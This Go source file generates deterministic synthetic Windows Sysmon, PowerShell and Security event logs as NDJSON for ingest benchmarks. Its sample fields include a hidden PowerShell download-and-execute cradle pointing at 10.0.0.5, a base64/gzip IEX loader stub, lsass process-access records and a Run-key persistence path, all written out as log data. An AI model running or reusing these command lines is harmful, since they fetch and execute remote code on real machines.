// Package synth writes synthetic Windows events as nxlog-flat NDJSON (the
// OTRF/Mordor shape), for ingest benchmarks and load tests. The mix of event
// ids follows the OTRF datasets (mostly Sysmon process access, registry and
// image loads, some process creations, network connections, logons and
// PowerShell script blocks), with the rendered message every record
// carries, so records are as long as real ones (about 1 KiB). Output is
// deterministic for a seed.
package synth

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"strconv"
	"time"
)

// Write writes n events spread over hosts hosts.
func Write(out io.Writer, n int, seed uint64, hosts int) error {
	w := bufio.NewWriterSize(out, 1<<20)
	g := &gen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), hosts: max(hosts, 1),
		t: time.Date(2024, 3, 4, 9, 0, 0, 0, time.UTC)}
	for i := 0; i < n; i++ {
		g.event(w, i)
	}
	return w.Flush()
}

type gen struct {
	r     *rand.Rand
	hosts int
	t     time.Time
	b     []byte
}

// The event mix, in per-mille.
var mix = []struct {
	id     int
	permil int
}{{10, 300}, {12, 150}, {7, 150}, {13, 100}, {3, 50}, {11, 50}, {1, 30}, {4104, 60}, {4624, 30}, {4688, 30}, {4703, 50}}

var images = []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
	`C:\Windows\System32\cmd.exe`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `C:\Windows\System32\lsass.exe`,
	`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `C:\Windows\System32\rundll32.exe`}

var dlls = []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\advapi32.dll`,
	`C:\Windows\System32\comsvcs.dll`, `C:\Windows\System32\wininet.dll`, `C:\Windows\System32\crypt32.dll`}

var keys = []string{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`, `HKU\S-1-5-21-4228717743-1032521047-1810997296-1104\Software\Microsoft\Windows\CurrentVersion\Internet Settings\Connections`,
	`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-4228717743-1032521047-1810997296-1104`, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit`}

func (g *gen) event(w *bufio.Writer, i int) {
	g.t = g.t.Add(time.Duration(g.r.IntN(2000)) * time.Microsecond)
	p := g.r.IntN(1000)
	id := mix[0].id
	for _, m := range mix {
		if p < m.permil {
			id = m.id
			break
		}
		p -= m.permil
	}
	host := "WORKSTATION" + strconv.Itoa(g.r.IntN(g.hosts)) + ".theshire.local"
	b := g.b[:0]
	b = append(b, '{')
	local := g.t.Add(-4 * time.Hour)
	b = str(b, "EventTime", local.Format("2006-01-02 15:04:05"))
	b = str(b, "EventReceivedTime", local.Add(2*time.Second).Format("2006-01-02 15:04:05"))
	b = str(b, "@timestamp", g.t.Add(2*time.Second).Format("2006-01-02T15:04:05.000Z"))
	b = str(b, "Hostname", host)
	b = str(b, "host", "wec.internal.cloudapp.net")
	b = num(b, "EventID", int64(id))
	b = num(b, "RecordNumber", int64(i+1))
	b = str(b, "SourceModuleName", "eventlog")
	b = str(b, "SourceModuleType", "im_msvistalog")
	b = num(b, "ExecutionProcessID", int64(2000+g.r.IntN(500)))
	b = num(b, "ThreadID", int64(3000+g.r.IntN(500)))
	switch {
	case id < 100:
		b = g.sysmon(b, id)
	case id == 4104:
		b = g.powershell(b)
	default:
		b = g.security(b, id)
	}
	b[len(b)-1] = '}'
	b = append(b, '\n')
	g.b = b
	w.Write(b)
}

func (g *gen) sysmon(b []byte, id int) []byte {
	b = str(b, "Channel", "Microsoft-Windows-Sysmon/Operational")
	b = str(b, "SourceName", "Microsoft-Windows-Sysmon")
	b = str(b, "ProviderGuid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
	b = str(b, "UtcTime", g.t.Format("2006-01-02 15:04:05.000"))
	b = str(b, "RuleName", "-")
	img := images[g.r.IntN(len(images))]
	pid := strconv.Itoa(1000 + g.r.IntN(9000))
	guid := fmt.Sprintf("{%08x-5a6a-5f2b-a900-%012x}", g.r.Uint32(), g.r.Uint64()&0xffffffffffff)
	user := `THESHIRE\pgustavo`
	switch id {
	case 1:
		b = str(b, "ProcessGuid", guid)
		b = str(b, "ProcessId", pid)
		b = str(b, "Image", img)
		b = str(b, "CommandLine", `"`+img+`" -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"`)
		b = str(b, "CurrentDirectory", `C:\Users\pgustavo\`)
		b = str(b, "User", user)
		b = str(b, "LogonId", "0x"+strconv.FormatInt(int64(g.r.Uint32()), 16))
		b = str(b, "IntegrityLevel", "High")
		b = str(b, "Hashes", "SHA1=E7A3B17F625283E3064D91A988D0B1694BA3E9B8,MD5=79CBBF946E797103BED792740AEBFEC1,SHA256=90F0822D26680C8FFD703A080C876F87695580747A3704C169E39E1A8802EA38,IMPHASH=90B4317BE51850B8EF9F14EB56FB7DDC")
		b = str(b, "ParentProcessId", strconv.Itoa(1000+g.r.IntN(9000)))
		b = str(b, "ParentImage", images[g.r.IntN(len(images))])
		b = str(b, "ParentCommandLine", `C:\Windows\Explorer.EXE`)
		b = str(b, "Message", "Process Create:\r\nRuleName: -\r\nImage: "+img+"\r\nUser: "+user)
	case 3:
		b = str(b, "ProcessGuid", guid)
		b = str(b, "ProcessId", pid)
		b = str(b, "Image", img)
		b = str(b, "User", user)
		b = str(b, "Protocol", "tcp")
		b = str(b, "Initiated", "true")
		b = str(b, "SourceIp", "172.18.39."+strconv.Itoa(g.r.IntN(250)))
		b = str(b, "SourcePort", strconv.Itoa(49152+g.r.IntN(16000)))
		b = str(b, "DestinationIp", "10.0.0."+strconv.Itoa(g.r.IntN(250)))
		b = str(b, "DestinationPort", "443")
		b = str(b, "Message", "Network connection detected:\r\nRuleName: -\r\nImage: "+img)
	case 7:
		dll := dlls[g.r.IntN(len(dlls))]
		b = str(b, "ProcessGuid", guid)
		b = str(b, "ProcessId", pid)
		b = str(b, "Image", img)
		b = str(b, "ImageLoaded", dll)
		b = str(b, "Hashes", "SHA1=495FF3B50B6C8DAEB1F5E25675651657467E4AE3,MD5=6970853875AA992E625352C4CDCB0F9E,SHA256=8C294AC09909304AB96CDD47DBE900A13A9B560AB6B763E695B831018AC5808D")
		b = str(b, "Signed", "true")
		b = str(b, "Signature", "Microsoft Windows")
		b = str(b, "SignatureStatus", "Valid")
		b = str(b, "Message", "Image loaded:\r\nRuleName: -\r\nImage: "+img+"\r\nImageLoaded: "+dll)
	case 10:
		b = str(b, "SourceProcessGUID", guid)
		b = str(b, "SourceProcessId", pid)
		b = str(b, "SourceThreadId", strconv.Itoa(g.r.IntN(9000)))
		b = str(b, "SourceImage", img)
		b = str(b, "TargetProcessGUID", guid)
		b = str(b, "TargetProcessId", strconv.Itoa(600+g.r.IntN(100)))
		b = str(b, "TargetImage", `C:\Windows\system32\lsass.exe`)
		b = str(b, "GrantedAccess", "0x1010")
		b = str(b, "CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(0000020C7B1A0F5B)`)
		b = str(b, "SourceUser", user)
		b = str(b, "TargetUser", `NT AUTHORITY\SYSTEM`)
		b = str(b, "Message", "Process accessed:\r\nRuleName: -\r\nSourceImage: "+img+"\r\nTargetImage: C:\\Windows\\system32\\lsass.exe")
	case 11:
		b = str(b, "ProcessGuid", guid)
		b = str(b, "ProcessId", pid)
		b = str(b, "Image", img)
		b = str(b, "TargetFilename", `C:\Users\pgustavo\AppData\Local\Temp\`+strconv.Itoa(g.r.IntN(1e6))+`.tmp`)
		b = str(b, "CreationUtcTime", g.t.Format("2006-01-02 15:04:05.000"))
		b = str(b, "Message", "File created:\r\nRuleName: -\r\nImage: "+img)
	case 12, 13:
		key := keys[g.r.IntN(len(keys))]
		b = str(b, "EventTypeOrignal", "INFO")
		if id == 12 {
			b = str(b, "EventType", "CreateKey")
		} else {
			b = str(b, "EventType", "SetValue")
			b = str(b, "Details", "DWORD (0x00000001)")
		}
		b = str(b, "ProcessGuid", guid)
		b = str(b, "ProcessId", pid)
		b = str(b, "Image", img)
		b = str(b, "TargetObject", key)
		b = str(b, "Message", "Registry value set:\r\nRuleName: -\r\nTargetObject: "+key)
	}
	return b
}

func (g *gen) powershell(b []byte) []byte {
	b = str(b, "Channel", "Microsoft-Windows-PowerShell/Operational")
	b = str(b, "SourceName", "Microsoft-Windows-PowerShell")
	b = str(b, "MessageNumber", "1")
	b = str(b, "MessageTotal", "1")
	b = str(b, "ScriptBlockText", "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAK1W'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
	b = str(b, "ScriptBlockId", fmt.Sprintf("%08x-82e8-432b-a847-ed46ac75eed1", g.r.Uint32()))
	b = str(b, "Message", "Creating Scriptblock text (1 of 1):")
	return b
}

func (g *gen) security(b []byte, id int) []byte {
	b = str(b, "Channel", "Security")
	b = str(b, "SourceName", "Microsoft-Windows-Security-Auditing")
	b = str(b, "SubjectUserSid", "S-1-5-18")
	b = str(b, "SubjectUserName", "WORKSTATION5$")
	b = str(b, "SubjectDomainName", "THESHIRE")
	b = str(b, "SubjectLogonId", "0x3e7")
	switch id {
	case 4624:
		b = str(b, "TargetUserSid", "S-1-5-21-4228717743-1032521047-1810997296-1104")
		b = str(b, "TargetUserName", "pgustavo")
		b = str(b, "TargetDomainName", "THESHIRE")
		b = str(b, "TargetLogonId", "0x"+strconv.FormatInt(int64(g.r.Uint32()), 16))
		b = str(b, "LogonType", strconv.Itoa([]int{2, 3, 3, 3, 5, 10}[g.r.IntN(6)]))
		b = str(b, "LogonProcessName", "NtLmSsp ")
		b = str(b, "AuthenticationPackageName", "NTLM")
		b = str(b, "WorkstationName", "WORKSTATION6")
		b = str(b, "IpAddress", "172.18.39."+strconv.Itoa(g.r.IntN(250)))
		b = str(b, "IpPort", strconv.Itoa(49152+g.r.IntN(16000)))
		b = str(b, "ProcessName", "-")
		b = str(b, "Message", "An account was successfully logged on.")
	case 4688:
		img := images[g.r.IntN(len(images))]
		b = str(b, "NewProcessId", "0x"+strconv.FormatInt(int64(g.r.IntN(1<<16)), 16))
		b = str(b, "NewProcessName", img)
		b = str(b, "TokenElevationType", "%%1936")
		b = str(b, "ProcessId", "0x"+strconv.FormatInt(int64(g.r.IntN(1<<16)), 16))
		b = str(b, "CommandLine", `"`+img+`" /c whoami /all`)
		b = str(b, "ParentProcessName", `C:\Windows\System32\cmd.exe`)
		b = str(b, "Message", "A new process has been created.")
	default:
		b = str(b, "TargetUserSid", "S-1-5-18")
		b = str(b, "TargetUserName", "WORKSTATION5$")
		b = str(b, "TargetDomainName", "THESHIRE")
		b = str(b, "ProcessName", `C:\Windows\System32\svchost.exe`)
		b = str(b, "EnabledPrivilegeList", "SeTakeOwnershipPrivilege")
		b = str(b, "Message", "A token right was adjusted.")
	}
	return b
}

// str appends "key":"value", escaping the value as JSON.
func str(b []byte, key, val string) []byte {
	b = append(b, '"')
	b = append(b, key...)
	b = append(b, `":`...)
	b = append(b, '"')
	for i := 0; i < len(val); i++ {
		switch c := val[i]; {
		case c == '"' || c == '\\':
			b = append(b, '\\', c)
		case c == '\n':
			b = append(b, '\\', 'n')
		case c == '\r':
			b = append(b, '\\', 'r')
		case c < 0x20:
			b = append(b, fmt.Sprintf("\\u%04x", c)...)
		default:
			b = append(b, c)
		}
	}
	return append(b, '"', ',')
}

func num(b []byte, key string, v int64) []byte {
	b = append(b, '"')
	b = append(b, key...)
	b = append(b, `":`...)
	b = strconv.AppendInt(b, v, 10)
	return append(b, ',')
}
